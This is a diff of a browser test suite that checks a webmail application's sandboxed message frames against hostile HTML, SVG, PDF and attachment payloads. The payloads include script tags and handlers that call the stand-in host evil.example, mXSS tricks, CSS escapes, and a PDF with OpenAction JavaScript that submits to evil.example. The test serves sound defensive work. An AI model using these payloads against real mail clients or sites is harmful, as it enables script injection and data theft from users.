@@ -1,60 +1,117 @@
-// HTML that tries everything: no script runs, no request leaves while remote content is blocked.
+// HTML that tries everything: no script runs, and no request leaves while remote content is blocked.
 import { base, browse, check, sendRaw } from "./browser.mjs";
+import { payloads } from "./payloads.mjs";
 
 const evil = "http://evil.example";
-const payloads = [
-  `<script>parent.document.title="owned";fetch("${evil}/script")</script>`,
-  `<img src="${evil}/pixel.gif" onerror="fetch('${evil}/onerror')">`,
-  `<img src=x onerror=alert(1)>`,
-  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
-  `<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>`,
-  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
-  `<style>@import url(${evil}/import.css); body{background:url(${evil}/bg)} a{color:red}</style>`,
-  `<style>@\\69mport "${evil}/escaped.css"; p{background:u\\72l(${evil}/escaped)}</style>`,
-  `<style></style><script>alert(2)</script>`,
-  `<div style="background:url('${evil}/inline')">x</div><table background="${evil}/table"><tr><td>y</td></tr></table>`,
-  `<link rel=stylesheet href="${evil}/link.css"><link rel=prefetch href="${evil}/prefetch">`,
-  `<meta http-equiv=refresh content="0;url=${evil}/refresh">`,
-  `<base href="${evil}/"><img src="relative.png"><a href="relative">a</a>`,
-  `<iframe src="${evil}/frame"></iframe><iframe srcdoc="<script>alert(3)</script>"></iframe>`,
-  `<object data="${evil}/object"></object><embed src="${evil}/embed">`,
-  `<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio>`,
-  `<img srcset="${evil}/srcset 1x"><picture><source srcset="${evil}/source"><img></picture>`,
-  `<form action="${evil}/form"><input name=a autofocus onfocus=alert(4)><button>go</button></form>`,
-  `<a href="javascript:alert(5)">js</a><a href="data:text/html,<script>alert(6)</script>">data</a>`,
-  `<body onload=alert(7) background="${evil}/body"></div></div></iframe></main><h1>outside?</h1>`,
-  `<details open ontoggle=alert(8)><summary>s</summary></details><marquee onstart=alert(9)>m</marquee>`,
-  `<textarea></textarea><img src=x onerror=alert(10)><title></title><xmp><img src=x onerror=alert(11)></xmp>`,
-  `<p style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red">over everything</p>`,
-  `<input type=image src="${evil}/input"><svg><image href="${evil}/svgimage"/><use href="${evil}/use#x"/></svg>`,
-];
+// The one load that the policy of a frame allows: a picture of ours. So it would be seen.
+const run = `new Image().src='${base}/ran'`;
+const all = payloads(evil, run);
+check(all.length >= 60, `${all.length} payloads`);
 
-await browse({}, async (page, seen) => {
-  for (const [number, payload] of payloads.entries()) {
-    await sendRaw(
-      `From: ann@example.org\r\nTo: bob@example.org\r\nSubject: payload ${number}\r\n` +
-        `MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<p>visible ${number}</p>${payload}\r\n`,
-    );
+const message = (subject, type, body) =>
+  `From: ann@example.org\r\nTo: bob@example.org\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n` +
+  `Content-Type: ${type}\r\n\r\n${body}\r\n`;
+const found = async (q) => {
+  const answer = await fetch(`${base}/api/messages?limit=200&wait=10&q=${encodeURIComponent(q)}`);
+  return (await answer.json()).messages;
+};
+
+await browse({}, async (page, seen, context) => {
+  const ran = [];
+  page.on("request", (request) => { if (request.url().includes("/ran")) ran.push(request.url()); });
+  const nothing = (when) => {
+    check(ran.length === 0, `script ran, ${when}`);
+    check(seen.dialogs.length === 0, `dialogs opened, ${when}: ${seen.dialogs}`);
+  };
+  const silent = (when) => {
+    nothing(when);
+    check(seen.foreign.length === 0, `requests left, ${when}: ${seen.foreign.join(", ")}`);
+  };
+  // All at once in frames like ours; resolves when each has loaded.
+  const frames = (urls) => page.evaluate(async (urls) => {
+    document.body.replaceChildren();
+    await Promise.all(urls.map((url) => new Promise((loaded) => {
+      const frame = document.createElement("iframe");
+      frame.setAttribute("sandbox", "allow-popups allow-popups-to-escape-sandbox");
+      frame.onload = loaded;
+      frame.src = url;
+      document.body.append(frame);
+    })));
+  }, urls);
+
+  await Promise.all(all.map((payload, number) =>
+    sendRaw(message(`payload ${number}`, "text/html; charset=utf-8", `<p>visible ${number}</p>${payload}`))));
+  const hostile = [];
+  for (const { id, subject } of await found("subject:payload")) hostile[Number(subject.split(" ")[1])] = id;
+  check(hostile.length === all.length && !hostile.includes(undefined), "all have arrived");
+
+  // As shown.
+  await page.goto(`${base}/help`);
+  await frames(hostile.map((id) => `/messages/${id}/frame`));
+  await page.waitForTimeout(300);
+  silent("shown in frames");
+  check(page.frames().length === hostile.length + 1, `${page.frames().length} frames: none made others`);
+  for (const frame of page.frames().slice(1)) {
+    check(/visible \d+/.test(await frame.locator("body").innerText()), `${frame.url()} shows its text`);
   }
-  await page.goto(`${base}/?q=payload`);
-  const links = await page.locator('a[href^="/messages/"]').evaluateAll((all) => [...new Set(all.map((a) => a.getAttribute("href")))]);
-  const ids = [...new Set(links.map((link) => link.split("/")[2].split("?")[0]))];
-  check(ids.length === payloads.length, `${payloads.length} messages are listed, not ${ids.length}`);
-  for (const id of ids) {
-    await page.goto(`${base}/messages/${id}/html`);
-    const frame = page.frameLocator("iframe");
-    await frame.locator("text=/visible \\d+/").first().waitFor();
-    await page.waitForTimeout(150);
-    check(page.url().startsWith(base), "the page stayed where it was");
-    check(!(await page.title()).includes("owned"), "the title is ours");
+  await frames(hostile.map((id) => `/messages/${id}/frame?scheme=dark`));
+  silent("in the dark");
+
+  // The policy alone holds, too: the same frames without the sanitiser.
+  await page.route(/\/frame\?bare/, async (route) => {
+    const answer = await route.fetch();
+    const number = Number(new URL(route.request().url()).searchParams.get("bare"));
+    await route.fulfill({ response: answer, body: `<!doctype html><p>bare</p>${all[number]}` });
+  });
+  await frames(all.map((_, number) => `/messages/${hostile[0]}/frame?bare=${number}`));
+  await page.waitForTimeout(500);
+  silent("with the policy alone");
+
+  // With remote content allowed pictures come, and still no script runs.
+  await frames(hostile.map((id) => `/messages/${id}/frame?remote=1`));
+  await page.waitForTimeout(300);
+  nothing("with remote content");
+  check(seen.foreign.some((url) => url.endsWith("/pixel.gif")), "asked for, pictures are loaded");
+  const acting = seen.foreign.filter((url) => /\.(js|css)$|refresh|form|ping|frame|object|embed|video|audio|prefetch|import/.test(url));
+  check(acting.length === 0, `only pictures and fonts are: ${acting}`);
+  seen.foreign.length = 0;
+
+  // Our own page around them stays ours, in every view.
+  const closing = all.findIndex((payload) => payload.includes("outside?"));
+  const over = all.findIndex((payload) => payload.includes("over everything"));
+  for (const number of [closing, over]) {
+    const id = hostile[number];
+    for (const tab of ["html", "text", "markup", "links", "print"]) {
+      await page.goto(`${base}/messages/${id}/${tab}`);
+      check(tab === "print" || (await page.locator("main > article.message h1").innerText()) === `payload ${number}`, `${tab} of ${number} is ours`);
+    }
+    silent(`in the views of ${number}`);
   }
-  check(seen.foreign.length === 0, `requests left: ${seen.foreign.join(", ")}`);
-  check(seen.dialogs.length === 0, `dialogs opened: ${seen.dialogs.join(", ")}`);
-  // A page of the mail itself, opened outside of its frame, is as tame.
-  for (const id of ids) {
-    await page.goto(`${base}/messages/${id}/frame`);
-    await page.waitForTimeout(30);
+  // Links open elsewhere or not at all: the page that shows the mail cannot be taken away.
+  const leaving = hostile[all.findIndex((payload) => payload.includes("target=_top"))];
+  await page.goto(`${base}/messages/${leaving}/html`);
+  const popup = context.waitForEvent("page");
+  await page.frameLocator("iframe").locator("#top").click();
+  await (await popup).close();
+  check(page.url() === `${base}/messages/${leaving}/html`, "a link with target=_top opens a page of its own");
+  seen.foreign.length = 0;
+
+  // What is attached is no better.
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="${evil}/svg"/><rect width="9" height="9"/></svg>`;
+  const pdf = `%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);this.submitForm\\('${evil}/pdf'\\);app.launchURL\\('${evil}/launch'\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>`;
+  const part = (type, name, body) => `--b\r\nContent-Type: ${type}\r\nContent-Disposition: attachment; filename="${name}"\r\n\r\n${body}\r\n`;
+  await sendRaw(message(`attached <img src=x onerror="${run}">`, "multipart/mixed; boundary=b",
+    `--b\r\nContent-Type: text/plain\r\n\r\njavascript:${run} <script>${run}</script> http://x.example/"onmouseover="${run}\r\n` +
+    part("image/svg+xml", "a.svg", svg) + part("text/html", `<img src=x onerror=${run}>.html`, `<script>${run}</script><p>visible</p>`) +
+    part("application/xhtml+xml", "a.xhtml", `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${run}</script>visible</body></html>`) +
+    part("application/pdf", "a.pdf", pdf) + part("text/xml", "a.xml", `<?xml-stylesheet href="${evil}/xsl"?><a xmlns:h="http://www.w3.org/1999/xhtml"><h:script>${run}</h:script></a>`) +
+    part("message/rfc822", "a.eml", message("inner", "text/html", `<script>${run}</script><img src="${evil}/inner"><p>visible</p>`)) + "--b--"));
+  const [{ id: attached }] = await found("subject:attached");
+  for (const tab of ["/text", "/parts", "/headers", ...[2, 3, 4, 5, 6, 7].map((number) => `/parts/${number}/view`)]) {
+    await page.goto(`${base}/messages/${attached}${tab}`);
+    if (tab === "/parts/5/view") await page.getByText("This document may run script").waitFor();
   }
-  check(seen.foreign.length === 0, `requests left: ${seen.foreign.join(", ")}`);
-  check(seen.dialogs.length === 0, `dialogs opened: ${seen.dialogs.join(", ")}`);
+  await page.waitForTimeout(200);
+  silent("in attachments");
+  check(seen.errors.length === 0, `no script of ours failed: ${seen.errors}`);
 });
